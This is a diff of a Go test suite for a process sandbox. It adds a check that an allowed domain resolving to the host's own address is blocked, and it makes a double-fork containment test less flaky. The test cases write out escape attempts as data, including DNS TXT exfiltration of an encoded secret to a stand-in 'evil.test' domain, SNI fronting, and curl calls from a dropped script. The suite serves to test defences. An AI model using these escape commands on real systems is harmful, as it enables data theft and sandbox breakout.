@@ -41,8 +41,11 @@ func TestEscapes(t *testing.T) {
 	var aln net.Listener
 	inNetns(t, w.host, func() (err error) { aln, err = net.Listen("unix", "@"+abstract); return err })
 	defer aln.Close()
+	var own net.Listener
+	inNetns(t, w.host, func() (err error) { own, err = net.Listen("tcp", hostOwnAddr+":80"); return err })
+	defer own.Close()
 	reached := make(chan string, 8)
-	for _, l := range []net.Listener{pln, aln} {
+	for _, l := range []net.Listener{pln, aln, own} {
 		go func(l net.Listener) {
 			for {
 				c, err := l.Accept()
@@ -111,6 +114,7 @@ except OSError as e:
 		{"dns txt exfiltration", []string{"dig", "+tries=1", "+time=5", "@127.0.0.1", "c2VjcmV0.exfil.evil.test", "TXT"}, "status: REFUSED"},
 		{"dns via resolv.conf", []string{"sh", "-c", "getent hosts denied.test || echo refused"}, "refused"},
 		{"allowed name resolving to loopback", []string{"curl", "-sS", "--max-time", "10", "-w", "\n%{http_code}", "http://rebind.test/"}, "403"},
+		{"allowed name resolving to the host's own address", []string{"curl", "-sS", "--max-time", "10", "-w", "\n%{http_code}", "http://hostaddr.test/"}, "403"},
 		{"connect with a fronted SNI", []string{"python3", "-c", pyFronted}, "refused"},
 		{"script written to disk", []string{"sh", "-c", "printf '#!/bin/sh\\ncurl -sS --noproxy \"*\" --max-time 5 http://" + webAddr + ":" + udpEchoPort + "/\\n' > ./x.sh && chmod +x x.sh && ./x.sh; echo code=$?"}, "code=7"},
 		{"host unix sockets", []string{"python3", "-c", pyUnix}, "pathname refused 1\nabstract refused 1\n"},
@@ -118,7 +122,7 @@ except OSError as e:
 	for _, u := range users {
 		for _, c := range cases {
 			t.Run(u.name+"/"+c.name, func(t *testing.T) {
-				r := w.sandboxd(t, runOpts{uid: u.uid, argv: c.argv, flags: []string{"--deny-domain", "denied.test"}})
+				r := w.sandboxd(t, runOpts{uid: u.uid, argv: c.argv, flags: []string{"--deny-domain", "denied.test", "--allow-domain", "hostaddr.test"}})
 				if !strings.Contains(r.stdout, c.want) || strings.Contains(r.stdout, "ESCAPED") {
 					t.Fatalf("exit %d\nstdout %q (want %q)\nstderr %q\naudit %s", r.code, r.stdout, c.want, r.stderr, r.audit)
 				}
@@ -141,7 +145,7 @@ except OSError as e:
 	}
 	select {
 	case a := <-reached:
-		t.Errorf("host unix socket %s was reached", a)
+		t.Errorf("host socket %s was reached", a)
 	default:
 	}
 }
@@ -184,7 +188,8 @@ func TestProcessTreeContainment(t *testing.T) {
 	for _, u := range users {
 		t.Run(u.name+"/setsid double fork", func(t *testing.T) {
 			marker := strconv.Itoa(910000 + rand.IntN(80000))
-			script := `(setsid sh -c 'sleep ` + marker + ` & sleep ` + marker + `' &); sleep 0.3; for f in /proc/[0-9]*/cmdline; do [ "$(tr '\0' ' ' < $f)" = "sleep ` + marker + ` " ] && echo x; done | wc -l`
+			script := `(setsid sh -c 'sleep ` + marker + ` & sleep ` + marker + `' &); count() { for f in /proc/[0-9]*/cmdline; do [ "$(tr '\0' ' ' < $f 2>/dev/null)" = "sleep ` + marker + ` " ] && echo x; done | wc -l; }; ` +
+				`n=0; while [ "$(count)" -lt 2 ] && [ $n -lt 100 ]; do sleep 0.05; n=$((n+1)); done; count`
 			r := w.sandboxd(t, runOpts{uid: u.uid, argv: []string{"sh", "-c", script}})
 			if strings.TrimSpace(r.stdout) != "2" || r.code != 0 {
 				t.Fatalf("want 2 background sleeps running inside; exit %d, out %q, err %q", r.code, r.stdout, r.stderr)
